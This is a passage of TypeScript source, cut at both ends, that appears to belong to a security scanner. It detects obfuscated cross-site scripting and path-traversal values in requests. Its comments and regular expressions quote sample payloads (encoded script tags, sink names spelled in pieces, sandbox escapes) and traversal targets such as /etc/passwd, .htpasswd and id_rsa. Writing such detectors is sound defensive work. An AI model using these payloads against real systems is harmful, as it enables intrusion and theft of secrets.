 * long, with several elements closed before the cut, where dangling markup is one short injection.
 */
function cutPage(v: string): boolean {
  if (v.length < 500) return false
  let closed = 0
  for (let at = v.indexOf('</'); at !== -1 && closed < 4; at = v.indexOf('</', at + 2)) closed++
  return closed >= 4
}
/** A link in markup: its target is judged as a URL (an address spelled to hide it, userinfo). */
const LINK = /<a\b[^>]{0,200}?\bhref\s{0,10}=\s{0,10}\\?['"]?\s{0,10}(?:https?:)?\/\/([^\s"'\\>/?#]{1,255})/
/**
 * JavaScript obfuscation without markup (eleventh round): a global object's (or any expression's) property
 * named by strings put together, called or walked further, where the strings spell a script sink —
 * `top['al'+k+'rt'](1)`, `window[['a'][0]+'lert'](1)`, `self[/*x*\/'alert'](…)`, `globalThis[\`al\`+/ert/.source]\`1\``,
 * `[]['constructor']['constructor'](…)`. The pieces must all be parts of one sink's name, in order, and
 * spell it whole or be joined by `+` (a computed name of three letters or more); `this['on' + type](e)` and
 * `window['gtag'](…)` are code, not this.
 */
/**
 * The Function constructor reached from any object and handed code naming a sink (eleventh round):
 * `Set.constructor\`alert(14)\``, `a='constructor'; … 'alert(1)'`, `[].constructor.from([1],alert)`,
 * `toString.constructor.prototype.charAt=…` (AngularJS sandbox escapes); a sink called as the whole value
 * in punctuation (`(alert())`, `,alert(0),`).
 */
const CONSTRUCTOR_SINK = /\.\s{0,4}constructor\s{0,4}(?:`|\(\s{0,4}['"`])[^`'"\n]{0,80}?\b(?:alert|prompt|confirm|eval)\b|['"`]constructor['"`][^\n]{0,200}?['"`](?:alert|prompt|confirm|eval)\s{0,4}\(|\bconstructor\s{0,4}\.\s{0,4}(?:prototype\s{0,4}\.\s{0,4}\w{1,20}\s{0,4}=(?!=)|from\s{0,4}\([^()]{0,40},\s{0,4}(?:alert|prompt|confirm|eval)\s{0,4}\))|^\s{0,4}[(,]\s{0,4}(?:alert|prompt|confirm)\s{0,4}\([^()]{0,40}\)\s{0,4}[),]?\s{0,4}$/
const HIGH_BIT_TAG = /\u00bc\/?[a-z]{2,10}\s?\u00be/
const HIGH_BIT = /[\u00a0-\u00ff]/g
const lowered = (ch: string) => String.fromCharCode(ch.charCodeAt(0) - 0x80)
const HIGH_BYTE_TAG = /\u3c00\/?[a-z]{2,10}\u3e00/
/** characters whose high byte is printable ASCII (U+2000 to U+7E00); `highByte` keeps those whose low byte is not zero */
const HIGH_BYTE = /[\u2000-\u7e00]/g
const highByte = (ch: string) => {
  const code = ch.charCodeAt(0)
  return (code & 0xff) === 0 ? String.fromCharCode(code >> 8) : ch
}
/** the characters past Latin-1 whose low byte is `c` (U+013C, U+023C, … U+FF3C for `<`), as a class's body */
const lowByteClass = (c: number) => Array.from({ length: 255 }, (_, i) => `\\u${(((i + 1) << 8) | c).toString(16).padStart(4, '0')}`).join('')
/**
 * (forty-sixth round) A tag whose brackets (and closing slash) are characters past Latin-1 of `<`'s, `>`'s and `/`'s low byte
 * (`%u073cscript%u073e`, `ܼscriptܾalert(42)ܼܯscriptܾ`): what a reader that keeps a UTF-16 unit's low byte (a cast to a byte) turns into
 * a script element, as the high byte's tag above is
 */
// (second review: any tag, its attributes parted by a character of a blank's low byte too, `ܼimgܠsrc=xܠonerror=alert(42)ܾ`)
const LOW_BYTE_TAG = new RegExp(`[${lowByteClass(0x3c)}][${lowByteClass(0x2f)}/]?[a-z][a-z0-9]{1,9}[${lowByteClass(0x3e)}${lowByteClass(0x20)}\\s]`)
/** characters past Latin-1 whose low byte is printable ASCII; `lowByte` keeps that byte */
const LOW_BYTE = /[\u0100-\uffff]/g
const lowByte = (ch: string) => {
  const low = ch.charCodeAt(0) & 0xff
  return low >= 0x20 && low < 0x7f ? String.fromCharCode(low) : ch
}
const OCTAL_ESCAPES = /\\[0-3][0-7]{2}\\[0-3][0-7]{2}/
const OCTAL_ESCAPE = /\\([0-3][0-7]{2})/g
const TAG_IN_WORD = /[a-z]<\/?[a-z]{0,8}>[a-z(]/
const SHORT_TAGS = /<\/?[a-z]{0,8}>/g
const SUBSCRIPT = /\[(?<=(?:(?<![\w$.])(?:top|window|self|this|parent|frames|globalthis|content|document)|[\])])\s{0,4}\[)((?:[^[\]\n]|\[[^[\]\n]{0,20}\]){1,80})\]\s{0,4}[(`[]/g
const PIECE = /'([^'\n]{0,20})'|"([^"\n]{0,20})"|`([^`\n]{0,20})`|\/([a-z]{1,20})\/\s{0,4}\.\s{0,4}source\b/g
const SINK_NAMES = ['alert', 'prompt', 'confirm', 'eval', 'atob', 'document', 'cookie', 'domain', 'location', 'constructor', 'settimeout', 'setinterval', 'import', 'fetch']
/** what a subscript after a sink's name reaches when the walk goes on to code: a sink, a call, a name spelt in pieces or not spelt at all */
const NEXT_SUBSCRIPT_SINK = new RegExp(String.raw`^\s{0,80}(?:(['"\x60])(?:${SINK_NAMES.join('|')}|call|apply|bind|href|assign|replace|write|writeln|open|body|head|documentelement|defaultview|createelement|innerhtml|outerhtml|insertadjacenthtml|srcdoc|src|protocol)\1\s{0,4}\]|[^\]\n]{0,80}?[+(/]|(?!['"\x60])[^\]\n]{0,80}\])`, 'i')
const fromOctal = (_m: string, o: string) => String.fromCharCode(parseInt(o, 8))
/**
 * Script spelt to slip past a filter, tried only on a value no other XSS rule matched: a page read as US-ASCII
 * by a reader that drops the high bit (`¼script¾alert(1)¼/script¾` is a script element); JavaScript's octal
 * escapes (`["\143\157…"]`); a short tag glued inside words for a filter that strips tags to join them
 * (`"o<x>nmouseover=alert<x>(1)`); a computed property name or the Function constructor spelling a sink.
 */
function obfuscatedScript(v: string, c: number): boolean {
  if ((c & C_WIDE) !== 0 && HIGH_BIT_TAG.test(v) && XSS[0]!.test(v.replace(HIGH_BIT, lowered))) return true
  // (twenty-ninth round) a reader that keeps a UTF-16 unit's high byte: `∀㸀㰀script㸀alert(1)㰀/script㸀` is `">` then a script element
  if ((c & C_WIDE) !== 0 && HIGH_BYTE_TAG.test(v) && XSS[0]!.test(v.replace(HIGH_BYTE, highByte))) return true
  if ((c & C_WIDE) !== 0 && LOW_BYTE_TAG.test(v) && anyOf(XSS, v.replace(LOW_BYTE, lowByte))) return true
  if ((c & C_BSL) !== 0 && OCTAL_ESCAPES.test(v)) {
    const w = v.replace(OCTAL_ESCAPE, fromOctal).toLowerCase()
    if (anyOf(XSS, w) || computedSink(w) || CONSTRUCTOR_SINK.test(w)) return true
  }
  if ((c & C_LT) !== 0 && TAG_IN_WORD.test(v) && anyOf(XSS, v.replace(SHORT_TAGS, ''))) return true
  if ((c & C_BRACKET) !== 0 && computedSink(v)) return true
  return ((c & (C_PAREN | C_BACKTICK)) !== 0) && (v.includes('constructor') || v.includes('alert') || v.includes('prompt') || v.includes('confirm')) && CONSTRUCTOR_SINK.test(v)
}

function computedSink(v: string): boolean {
  if (!v.includes('[')) return false
  SUBSCRIPT.lastIndex = 0
  for (let m = SUBSCRIPT.exec(v), n = 0; m !== null && n < 8; m = SUBSCRIPT.exec(v), n++) {
    const inside = m[1]!
    const pieces: string[] = []
    PIECE.lastIndex = 0
    for (let p = PIECE.exec(inside); p !== null; p = PIECE.exec(inside)) pieces.push(p[1] ?? p[2] ?? p[3] ?? p[4] ?? '')
    if (pieces.length === 0) continue
    const joined = pieces.join('')
    const concatenated = inside.includes('+')
    // (thirty-fifth round) a sink's name read then subscripted again is a walk through data (an alert's fields in a workflow's
    // expression, `$node["Webhook"].json["body"]["alert"]["externalEventId"]`), unless the next name is a sink's, a call's or spelt in
    // pieces (`[]['constructor']['constructor'](…)`, `self['document']['domain']`, `top['doc'+'ument']['coo'+'kie']`)
    if (m[0].endsWith('[') && !NEXT_SUBSCRIPT_SINK.test(v.slice(m.index + m[0].length, m.index + m[0].length + 84))) continue
    for (const sink of SINK_NAMES) {
      if (joined === sink) return true
      if (!concatenated || joined.length < 3) continue
      let at = 0
      let inOrder = true
      for (const p of pieces) {
        const i = sink.indexOf(p, at)
        if (i === -1) {
          inOrder = false
          break
        }
        at = i + p.length
      }
      if (inOrder) return true
    }
  }
  return false
}

/** Path traversal: climbing out of a directory, or naming a file outside the application's. */
const TRAVERSAL = [
  // three levels in a path-like value (not a relative import in code); ".." separated by anything
  // short (exotic encodings: ..0x2f, ..%5c, ..;/, ....//)
  /^[^\s'"`]{0,300}?(?:(?:\.\.%?[/\\;]{1,3}){3}|(?:\.\.[^\w\s.'"`%/\\;]{1,2}){3}|(?:[/\\]{1,3}\.\.){3}(?:[/\\%]|$)|(?:\.\.(?:0x2f|0x5c|2f|5c|%2f|%5c|[/\\])){3}|(?:0x2e0x2e[/\\]?(?:0x2f|0x5c)?){2}|(?:\.{3,4}[/\\]{1,2}){2})/,
  // climbing towards a system location
  // (thirty-fifth round: a directory's name, not a word that begins with one, `../../config/bootloader.md`, `../windows-setup.md`; review: but
  // `apache-tomcat`, `apache-activemq` and `xampplite` are installations' directories; forty-second round: `apache` a directory's name,
  // `apache2/`, `apache-tomcat-9.0.65/`, `apache-tomcat-10.1.0-M17/`, `apache-hive-3.1.3-bin/`, not a file's that begins with it,
  // `../how-to-guides/apache-to-s3.md`)
  /\.\.(?:[/\\]{1,2}|0x2f|0x5c|%2f|%5c|2f|5c)(?:[^\0\n]{0,60}?(?:[/\\]|2f))?(?:etc[/\\]|proc[/\\]|var[/\\](?:log|lib|www|run|spool|mail)|usr[/\\]|root[/\\]|home[/\\]|(?:boot|windows|winnt|inetpub)(?![a-z_-])|xampp(?!(?!lite)[a-z_-])|system32|apache(?:\d{0,2}|-[a-z]{1,12}(?:-\d[\w.]{0,20})?(?:-(?:bin|src|m\d{1,3}|rc\d{1,3}|alpha\d{0,3}|beta\d{0,3}))?)(?:[/\\]|%2f|%5c|$)|program\s?files|wp-config|web\.config|\.htaccess|\.htpasswd|\.env\b|\.ssh|\.git[/\\]|id_rsa|php\.ini|win\.ini|boot\.ini|config\.php|httpd\.conf|web-inf[/\\]|logs?[/\\]|\.(?:history|bash_history|bash_profile|bashrc|cshrc|profile|pass|passwd)\b|_config\.php)/,
  /(?:^|[^\w.])[/\\]?(?:etc[/\\](?:passwd|shadow|master\.passwd|sudoers|group|hosts|issue|motd|crontab)|proc[/\\]self[/\\]\w+|proc[/\\]\d{1,6}[/\\]\w+)\b/,
  /\b[a-z]:[/\\]{1,2}(?:windows|winnt|boot\.ini|inetpub|xampp|program\s?files|documents and settings|apache|php|wamp|mysql)\b|\bwindows[/\\](?:win\.ini|system\.ini|system32[/\\]|repair[/\\]|panther[/\\])/,
  /^file:[/\\]{2,3}(?:etc|proc|windows|winnt|[a-z]:|root|boot)\b|^(?:php|zip|phar|expect|glob|data):\/\/(?:filter|input|stdin|fd|memory|temp)?/,
  /\0(?<=\.\.(?:[/\\]|2f|5c)[^\0]{0,100}\0)|\.\.;[/\\]/,
  // (forty-ninth round) a JavaServer Faces resource's library or locale named by a climb (`/faces/javax.faces.resource/web.xml?ln=..\WEB-INF`,
  // `javax.faces.resource./WEB-INF/web.xml.jsf?ln=..`): the handler reads the file from the folder it climbs to (CVE-2013-3827)
  /\bjavax\.faces\.resource\b[^\s?]{0,200}\?(?:[^\s#]{0,200}&)?(?:ln|loc)=(?:[^&#\s]{0,40}?[/\\])?\.\.(?:[/\\&#]|$)/,
  // a path to a file no application serves: members/.htpasswd  conf/web.config  .ssh/id_rsa
  /^[^\s]{0,200}?(?:^|[/\\])(?:\.(?:htpasswd|htaccess|bash_history|mysql_history|git[/\\]config|ssh[/\\]|aws[/\\]credentials|env\b)|web\.config|wp-config\.php|php\.ini|boot\.ini|win\.ini|httpd\.conf|id_rsa|id_dsa)[^\s]{0,40}$/,
]
/**
 * A value that is only climbing (eleventh round): `../`, `..\\`, `/../..`, `..%252f..%252f` once decoded —
 * a probe for the parameter that takes a path, whatever its name; a relative path naming a file
 * (`../avatar.jpg`) is not one, nor a configuration's own `"path": "../../"`.
 */
/**
 * (twenty-third round) A climb whose separator, however odd (an overlong or broken escape a fuzzer tries, `%c1%8s`, `%bg%qf`,
 * `0x2f`, `%uF025`), also separates the system location it climbs to (`..%c1%8s..%c1%8setc%c1%8spasswd`, `.../.%bg%qfboot.ini`):
 * the same token both times is a path's separator to whatever decodes it; and climbs written with blanks around the slashes
 * (`.. / .. / etc / passwd`).
 */
const CLIMB_SEPARATOR = /\.{2,4}\/?\.{0,2}((?:%[0-9a-z]{1,2}|0x[0-9a-f]{2}|[\u0080-\uffff]){1,3})(?:[\\/]?\.{2,4}\/?\.{0,2}\1){0,12}(?:etc\1(?:passwd|shadow|issue|hosts|group)\b|(?:windows|winnt)\1system32\b|boot\.ini\b|win\.ini\b)|(?:\.\.[ \t]{1,2}[/\\][ \t]{0,2}){2,16}(?:etc|windows|winnt|boot)\b/
/**
 * (fifty-eighth round, the spent hundred-and-thirty-seventh part's miss) An absolute path, a whole value of no blank, that climbs above its
 * own root (`/jbfm/../../`, `/api/../../../etc/passwd`, `C:\inetpub\..\..\x`): no file has a parent of its root, so the climb is
 * written for a server that joins the value to a folder of its own. No benign value of any part climbs so (a relative import climbs from
 * a file, not from a root; `/docs/../guide` stays under it). Review: not a page's or an asset's address (`src=/../images/logo.png`, as
 * public pages write it; a browser drops the climb) nor under a redirect parameter, whose path is a URL's (`next=/../index.html`);
 * judged on the value as sent as well as with its escaped slashes read (`/jbfm/..\..\input`); and under a parameter named for a file, a
 * relative path that names a folder first and climbs above it (`path=jbfm/../../input/data`: joined to a folder, it leaves it). Second
 * review: a page's or a script's file only right after the root (`/../index.php`; `/static/../../server.js` is read), blanks around the
 * value trimmed and inside it kept, as file systems take them (`/jbfm/../../input/my data `).
 */
/**
 * (fifty-ninth round, the spent hundred-and-thirty-ninth part's miss) A climb written in overlong UTF-8 anywhere in a value — two dots as
 * `%c0%ae` or `%e0%80%ae` before a separator, or a separator so after `..` (`/theme/META-INF/%c0%ae%c0%ae/META-INF/MANIFEST.MF`): no text
 * is written so, only a request crafted for a decoder that takes the forbidden forms; no benign value of any part holds one. Read on
 * the value as sent (decoded, the climb stays under the root and is a path's own)
 */
const OVERLONG_CLIMB = /(?:%c0%ae|%e0%80%ae){2}(?:[/\\]|%c0%af|%c1%9c|%e0%80%af)|\.\.(?:%c0%af|%c1%9c|%e0%80%af)/i
const OVERLONG_SENT = /%(?:c0|c1|e0%80)%/i
const PATH_SEPARATOR = /[/\\]/
const ROOTED_PATH = /^(?:[a-z]:)?[/\\](?![/\\])[^\n\r\t?#]{0,2000}$/
const FOLDER_FIRST_PATH = /^[\w-][^\n\r\t?#]{0,2000}$/
/** a picture's, a font's or a style sheet's file anywhere; a page's or a script's only right after the root's climb (`/../index.php`) */
const WEB_ASSET_END = /\.(?:png|jpe?g|gif|svg|webp|avif|ico|bmp|css|woff2?|ttf|otf)$|^[/\\]\.\.[/\\][^\n]{0,2000}\.(?:m?js|html?|php)$/
function climbsAbove(path: string, rooted: boolean): boolean {
  path = path.trim()
  if (path.length > 2000 || !(rooted ? ROOTED_PATH : FOLDER_FIRST_PATH).test(path) || WEB_ASSET_END.test(path)) return false
  let depth = 0
  // after the root's separator (the first character's, or a drive's, `c:\`), or from the first folder's name
  for (const segment of (rooted ? path.slice(path.charCodeAt(1) === 58 ? 3 : 1) : path).split(PATH_SEPARATOR)) {
    if (segment === '..') {
      if (--depth < 0) return true
    } else if (segment !== '' && segment !== '.') depth++
  }
  return false
}
const LONE_CLIMB = /^\s{0,4}[/\\]?(?:\.\.[/\\]{1,3}){1,16}(?:\.\.)?\s{0,4}$|^\s{0,4}(?:[/\\]{1,3}\.\.){1,16}[/\\]?\s{0,4}$/
/** A query string given as a value: names, each with a value or none, joined by `&`. */
const QUERY_VALUE = /^[a-z_][\w.[\]-]{0,40}=[^&\n\r]{0,500}(?:&[a-z_][\w.[\]-]{0,40}(?:=[^&\n\r]{0,500})?){0,30}$/i
/** In a document (a configuration naming its own files), only climbing out counts. */
const CLIMBING = [TRAVERSAL[0]!, TRAVERSAL[1]!, TRAVERSAL[5]!]
/**
 * In a JSON text of nested objects (a tool's configuration: tsconfig's `references`, a manifest's
 * `link:../../../packages/x`, jest's `transform`), or under a configuration's `extends`, climbing to the
 * project's own files is how it names them: only climbing toward a system location counts there.
 */
const SYSTEM_CLIMBING = [TRAVERSAL[1]!, TRAVERSAL[5]!]
/**
 * (twenty-sixth round) a system file between two words of a sentence, on one line: `copies of /etc/passwd and`, `in the /etc/passwd file,`
 * (twenty-seventh round: or ending a line the sentence goes on after, `now my /etc/issue⏎shows`, `for /etc/hosts.allow⏎and`)
 * (review: not after a program that reads or copies it, `cat /etc/passwd and`, a command line on a line of its own)
 */
// (thirty-second round: or an item of a list in the sentence, `servers, DHCP, /etc/hosts, etc.`, and between the words of a language
// written without Latin letters, `使用私有上游服务器、DHCP、/etc/hosts 等解决`)
const SENTENCE_SYSTEM_FILE = /(?<=(?:^|[ \t])(?!(?:cat|tac|head|tail|less|more|nl|strings|xxd|od|base64|grep|egrep|sort|uniq|cp|mv|scp|rsync|curl|wget|source|include|require|type|get|vi|vim|nano|tee),?[ \t])[a-z]{2,20},?[ \t]|[\u3001\u3002\uff0c][ \t]?|[\u3040-\u30ff\u4e00-\u9fff\uac00-\ud7af\u0e00-\u0e7f][ \t])\/(?:etc|proc)\/[\w.-]{1,40}(?=[,.;:)]?[ \t]{1,4}[a-z]{2,20}\b|[,;:][ \t]*$|[ \t]{0,4}\n[ \t]{0,8}[a-z]{2,20}[ \t,.]|[,.;:)]?[\u3001\u3002\uff0c]|[,.;:)]?[ \t]{1,4}[\u3040-\u30ff\u4e00-\u9fff\uac00-\ud7af\u0e00-\u0e7f])/m
const SENTENCE_SYSTEM_FILES = new RegExp(SENTENCE_SYSTEM_FILE.source, 'gm')
/** (review of the thirty-second round) a key naming files, attachments or documents in the plural too (`files`, `paths`, `attachments`) */
const FILES_KEY = /(?:^|[_.[-])(?:files?|paths?|filenames?|attachments?|includes?|templates?|docs?|documents?)(?:$|[_.\]-])/
/** (thirty-second round) prose in Chinese, Japanese, Korean or Thai: eight of their letters in a row (Korean's words parted by blanks) */
const NON_LATIN_PROSE = /[\u3040-\u30ff\u4e00-\u9fff\u0e00-\u0e7f]{8}|(?:[\uac00-\ud7af]{2,12}[ \t]){4}/
/** A request path naming a system file outright (no climbing needed when the server maps paths badly). */
const SYSTEM_FILES = [TRAVERSAL[2]!, TRAVERSAL[3]!, TRAVERSAL[4]!]

/**
 * An absolute path to a system location as a whole value: what a file-inclusion probe sends
 * (`/etc/hosts.deny`, `/var/log/maillog`, `C:\xampp\apache\conf\httpd.conf`, `\\host\share`).
 */
const ABSOLUTE_PATH = /^(?:\\[\w .()-]{1,60}\\|\/(?:etc|var|usr|proc|opt|root|boot|sys|dev|bin|sbin|lib|lib64|srv|mnt|private|volumes|library|applications|apache\d?|xampp|wamp|nginx|httpd|php\d?|mysql|logs?|tomcat\d?|\[?jboss\]?|windows|winnt|inetpub)(?:[/\\][^\s/\\]|$)|\/\.(?:bash_profile|bashrc|cshrc|profile|history|bash_history|login|netrc)$|\/program\s?files(?:\s?\(x86\))?[/\\]|\/home\/[^/\s]{1,40}\/\.|~\/\.[\w-]|\/run\/secrets\/|[a-z]:[/\\](?!users[/\\][^/\\\n]{1,60}[/\\](?:documents|desktop|downloads|pictures|music|videos|onedrive)\b)|\\\\[\w.-]{1,60}\\|\/\/[\w.-]{1,60}\/(?:c|admin|ipc)\$)[^\n]{0,300}$/

/**
 * (twenty-ninth round) a program a command field names by its path, as a process manager's configuration does
 * (`"executable": "/var/vcap/packages/app/serve.sh"`, `"interpreter": "/usr/local/bin/node"`): the field's own, no file read
 */
// (review: not in a system's or a temporary directory, `/etc/cron.daily/x.sh`, `/var/tmp/x.sh`, `/root/bin/x`, nor climbing)
const PROGRAM_FILE = /^\/(?!(?:etc|root|proc|sys|dev|boot|tmp|var\/tmp|var\/spool|home\/[^/]{1,60}\/\.)\/|[^\n]{0,200}\.\.)[\w.+/-]{1,200}(?:\/s?bin\/[\w.+-]{1,60}|\.(?:sh|bash|py|pl|rb|js|exe|bat|cmd|ps1))$/
/**
 * (thirty-first round) A Windows search path, directories parted by `;` (`C:\\tools\\bin;C:\\Windows\\System32`, `$env:PATH;$dir\\bin`,
 * `%USERPROFILE%\\bin;%PATH%`), as an environment's setting holds it: its `;` parts directories, no command follows; a part naming a
 * file (an extension) or holding a shell's sign is none
 */
const WINDOWS_PATH_LIST = /^(?![^\n]*\\(?:config|repair|cmd|powershell)(?:\\|;|$))(?:[a-z]:\\[^;\n.$`|&<>=/%]{0,200}|%\w{1,40}%(?:\\[^;\n.$`|&<>=/%]{0,200})?|\$(?:env:)?\w{1,40}(?:\\[^;\n.$`|&<>=/% ]{0,200})?)(?:;(?:[a-z]:\\[^;\n.$`|&<>=/%]{0,200}|%\w{1,40}%(?:\\[^;\n.$`|&<>=/%]{0,200})?|\$(?:env:)?\w{1,40}(?:\\[^;\n.$`|&<>=/% ]{0,200})?)){1,30};?$/i
/**
 * (thirtieth round) A program directory or a list of them, an install prefix or a web root, named alone: a setting's value (`/usr/local/bin:/usr/bin:/bin`,
 * `/opt/homebrew/bin`, `/usr/lib/jvm/java-17-openjdk`, a document root `/var/www/html`), no file an inclusion reads
 */
const PROGRAM_DIRECTORIES = /^(?:\/(?:(?:usr|opt)(?:\/[\w.+-]{1,40}){0,3}\/)?(?:s?bin|lib(?:64)?(?:\/[\w+-]{1,40}\/[\w+-]{1,40})?|include|share|local)\/?|\/var\/www(?:\/html)?\/?|\/usr\/share\/nginx\/html\/?)(?::\/(?:(?:usr|opt)(?:\/[\w.+-]{1,40}){0,3}\/)?(?:s?bin|lib(?:64)?|include|share|local)\/?){0,12}$/
/**
 * (thirtieth round) a drive path that is a user's file, not a file-inclusion target: what a browser's file input gives as its value
 * (`C:\\fakepath\\photo.png`, by the HTML standard), or a picture, a document or a recording outside a system's or a server's directories
 * (`"Body": "c:\\HappyFace.jpg"`, `D:\\data\\report.pdf`)
 */
// (not climbing, nor under windows, inetpub, xampp, a program's or a server's directory: `C:/windows/system32/license.rtf` is still read)
const DRIVE_DOCUMENT = /^[a-z]:[/\\](?![^\n]{0,260}?(?:[\0-\x1f%]|~\d|appdata))(?:fakepath[/\\][^/\\\n]{1,255}|(?![^\n]{0,200}?\.\.)(?!(?:[^\n]{0,200}?[/\\])?(?:windows|winnt|inetpub|xampp|wamp|system32|program ?files[^/\\\n]{0,8}|php\d?|apache\d?|mysql|tomcat\d?|nginx)(?:[/\\]|$))[^\n]{0,200}\.(?:jpe?g|png|gif|bmp|webp|heic|tiff?|svg|ico|pdf|docx?|xlsx?|pptx?|od[tsp]|rtf|mp[34]|wav|m4a|mov|avi|mkv|csv))$/i
/** (twenty-ninth round) One LDAP filter and nothing else: opened on its first character, every parenthesis closed, the last closing it. */
function wholeFilter(v: string): boolean {
  if (v.length > 2000 || v.charCodeAt(0) !== 40 || v.charCodeAt(v.length - 1) !== 41) return false
  let depth = 0
  for (let i = 0; i < v.length; i++) {
    const c = v.charCodeAt(i)
    if (c === 40) depth++
    else if (c === 41 && --depth === 0 && i !== v.length - 1) return false
    else if (c === 0 || c === 10) return false
  }
  return depth === 0
}
/** (twenty-ninth round) A User-Agent opening on its product and version (`Mozilla/5.0`, `UCWEB/2.0`, `Snapchat/10.29.1.0`). */
const PRODUCT_FIRST = /^[a-z][\w.+-]{0,40}\/[\w.+-]{1,40}(?:[ \t]|$)/
/** a comment of a User-Agent: parentheses holding no parenthesis */
const AGENT_COMMENT = /\([^()\n]{1,300}\)/g
const AGENT_ITEM = /^[ \t]{0,4}[\w .,:+/-]{0,100}$/
/** an option given in an item (`ping -c 3`): a command line's */
const AGENT_OPTION = /(?:^|\s)-[a-z]/
const REPORTS_ALONE = new Set(['whoami', 'uname', 'ifconfig', 'ipconfig', 'hostname', 'netstat', 'systeminfo', 'printenv', 'pwd'])
/** an item of a User-Agent's comment: a platform's, a locale's or a device's name and version, nothing a shell reads apart */
const agentItem = (item: string) => AGENT_ITEM.test(item) && !AGENT_OPTION.test(item) && !item.includes('/etc/') && !REPORTS_ALONE.has(item.trim())
/** (twenty-ninth round: a bracketed key's part too, PHP's `config[path]`) */
const REMOTE_INCLUSION = /^\s{0,4}(?:https?|ftps?):\/\/[^\s?#/]{1,253}\/[^\s?#]{1,300}(?:\?{1,2}(?:[a-z_]\w{0,20}=?)?|#|%00|\0)$/
/**
 * (review) keys that name the file an application opens (`include`, `path`, `template`): any remote file; a page's or a source's key
 * (`page`, `src`, `doc`, as analytics send a page's address) only one that is a script's or a text's file (`shell.txt?`, `x.php?`)
 */
const INCLUDED_FILE_KEY = /(?:^|[_.[-])(?:file|filename|filepath|path|include|inc|template|tpl|conf|config|dir|directory|folder|module|lang|language|locale|layout|theme|load|read|require)(?:$|[_.\]-])/
const INCLUDED_SCRIPT = /\.(?:txt|php\d?|phtml|inc|jpe?g|gif|png|sh|pl|py|asp|aspx|jsp|cgi|dat|log|ini|conf)(?:\?{1,2}(?:[a-z_]\w{0,20}=?)?|#|%00|\0)$/
/**
 * Under a parameter named for a file: any absolute path to a server-side file, two levels of
 * climbing at the start (`page=/configuration.php`, `file=../../x`).
 */
const FILE_PARAM = /(?:^|[_.[-])(?:file|filename|path|filepath|page|template|tpl|include|inc|doc|document|folder|dir|directory|load|read|view|lang|language|locale|style|theme|layout|module|conf|config|log|download|src|source|name|f|p|fn)(?:$|[_.\]-])/
const SERVER_FILE = /^(?:\/|[a-z]:[/\\])[^\s]{0,200}\.(?:php\d?|phtml|inc|ini|conf|config|cfg|log|xml|sql|bak|yml|yaml|env|properties|pem|key|asp|aspx|jsp|cgi|pl|py|rb|sh|passwd|htaccess|htpasswd)(?:%00|\0)?$|^\.\.[/\\]\.\.[/\\]/
/** …of which a configuration's climbs (SYSTEM_CLIMBING) count only to such a file: `../../config.yml`, not `../../` */
/**
 * (json22) Two levels up to a picture, a medium, a font or a stylesheet by its name (`"src": "../../assets/the-future.jpg"`, a content
 * entry's image): a page's asset, as a user's `../avatar.jpg` is (deeper climbs and a NUL before the extension are judged as before).
 */
/** one word in quotes, the whole value */
const QUOTED_ONE_WORD = /^(["'])[a-z]{2,12}\1$/i
const ASSET_CLIMB = /^\.\.\/\.\.\/(?![^\n]{0,200}\.\.)[\w@+~\/-][\w@.+~\/-]{0,200}\.(?:png|jpe?g|gif|svg|webp|avif|ico|bmp|mp4|webm|mp3|wav|ogg|woff2?|ttf|otf|css)$/
/**
 * (fortieth round) Under a manifest's `module` key, two levels up to a build's entry module (Apollo Server's sub-entry manifests,
 * `"module": "../../dist/esm/plugin/cacheControl/index.js"`, a package's entry point named from a folder inside it). Only under `dist`,
 * `build`, `esm`, `cjs`, `umd` or `out`, only an `index` module or its types, no climb after the first (review: a server's own compiled
 * code is there too — `file=../../dist/config/secrets.js` read a Node server's secrets — so no other file, and no other key).
 */
const BUILT_MODULE_CLIMB = /^\.\.\/\.\.\/(?![^\n]{0,200}\.\.)(?:dist|build|esm|cjs|umd|out)\/(?:[\w@+~-][\w@.+~-]{0,60}\/){0,8}index\.(?:m?js|cjs|d\.[mc]?ts)$/
/**
 * (fourteenth round) A value that is a climb (any encoding, `....//` that survives a filter removing `../` once) to a
 * server's script, configuration, log or secret (`..%2fsettings.php`, `....//env.php`, `../.user.ini`): a user's
 * relative path names a document or a picture (`../avatar.jpg`), not these. (review) A script counts by a configuration's
 * or a setup's name only (`../config.asp`): a PHP or ASP site links its own pages relatively (`back=../index.php`).
 */
const CLIMB_TO_SERVER_FILE = /^\s{0,4}(?:\.{2,4}[/\\]{1,2}){1,16}[^\s]{0,200}(?:\.(?:inc|ini|conf|config|cfg|log|sql|bak|env|properties|pem|key|htaccess|htpasswd)|(?<=[/\\._-])(?:config|configuration|conf|settings?|env|database|db|wp-config|localsettings|local|secrets?|credentials?|connection|connect|parameters|constants|phpinfo|debug|install|setup)(?:[._-][a-z]{1,12})?\.(?:php\d?|phtml|asp|aspx|jsp|cgi)|\/\.(?:env|user\.ini|htaccess|htpasswd|git\/config))(?:%00|\0)?\s{0,4}$|^\s{0,4}\.{4}[/\\]{2}/
/**
 * (fourteenth round) Under a parameter named for a file, a system location written without its leading slash
 * (`var/log/nginx/access.log`, `proc/version`, `home/user/.bash_history`): an application that prefixes a slash or
 * its root reads the server's own files. (review) Under `etc`, `proc`, `sys`, `boot`, `root` and `windows` only what the
 * system keeps there (`etc/passwd`, `etc/nginx/…`, `proc/self/…`, `windows/win.ini`): a site's own sections and folders
 * have those names too (`page=windows/getting-started`, `dir=etc/notes.txt`, `module=sys/user`).
 */
const RELATIVE_SYSTEM_PATH = /^\s{0,4}(?:(?:var\/(?:log|www|lib|mail|spool|run|tmp|cache)|usr\/(?:local|share|lib|bin|sbin)|home\/[^/\s]{1,40}(?=\/\.)|root(?=\/\.)|inetpub|sys\/(?:class|kernel|devices|fs|module|block|bus|firmware|power))\/[^\s]{1,200}|etc\/(?:[^\s]{0,200}\.(?:conf|cnf|ini|cfg)|passwd|shadow|group|gshadow|hosts|hostname|issue|motd|fstab|crontab|sudoers|os-release|lsb-release|profile|environment|timezone|machine-id|(?:nginx|apache2?|httpd|ssh|mysql|php\d?|ssl|init\.d|cron\.d|sysconfig|security|pam\.d|systemd|default|network|postfix|redis|docker|kubernetes|letsencrypt)\/[^\s]{1,200})|proc\/(?:self|thread-self|\d{1,7}|version|cpuinfo|meminfo|mounts|net|cmdline|environ|stat|status|uptime|loadavg|filesystems|modules|devices|partitions|kallsyms|sched_debug|config\.gz)(?:\/[^\s]{1,200})?|boot\/(?:grub2?\/|efi\/|boot\.ini|vmlinuz|initrd|system\.map|config-)[^\s]{0,200}|(?:windows|winnt)\/(?:(?:system32|syswow64|system|repair|debug|panther|inf|temp|logs|microsoft\.net)(?:\/[^\s]{0,200})?|[^\s/]{1,6